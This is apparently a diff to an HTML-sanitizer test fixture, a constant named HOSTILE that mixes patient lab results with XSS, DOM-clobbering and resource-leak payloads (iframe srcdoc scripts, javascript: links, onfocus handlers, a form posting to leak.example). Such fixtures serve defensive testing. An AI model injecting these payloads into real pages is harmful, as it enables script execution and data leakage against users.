@@ -25,7 +25,7 @@ export const HOSTILE = `<p class="x">Hello <b>Pat</b>, your results are here.</p
 <p style="background:url(/leak/inline)">Styled</p>
 <iframe srcdoc="<script>parent.parent.postMessage('PWNED','*')</script><img src=/leak/srcdoc>"></iframe><iframe src="/leak/frame"></iframe>
 <object data="/leak/object"></object><embed src="/leak/embed"><video src="/leak/video" poster="/leak/poster"></video><audio src="/leak/audio" autoplay></audio>
-<form action="https://leak.example/form"><input name="q" autofocus onfocus="alert(1)"><button>Send</button></form>
+<form action="https://leak.example/form"><input name="q" autofocus onfocus="alert(1)"><input name="childNodes"><img name="getAttribute"><img name="tagName"><button>Send</button></form>
 <a href="javascript:parent.document.title='PWNED'">script link</a> <a href="https://clinic.example/book?x=1">Book an appointment</a> <a href="mailto:ana@lindenhof.example">Write</a>
 <table background="/leak/table"><tr><td>Haemoglobin</td><td>13.9 g/dL</td></tr><tr><td>Glucose</td><td>92 mg/dL</td></tr></table>
 <template><img src="/leak/template"></template><math><mtext><img src="/leak/math"></mtext></math>
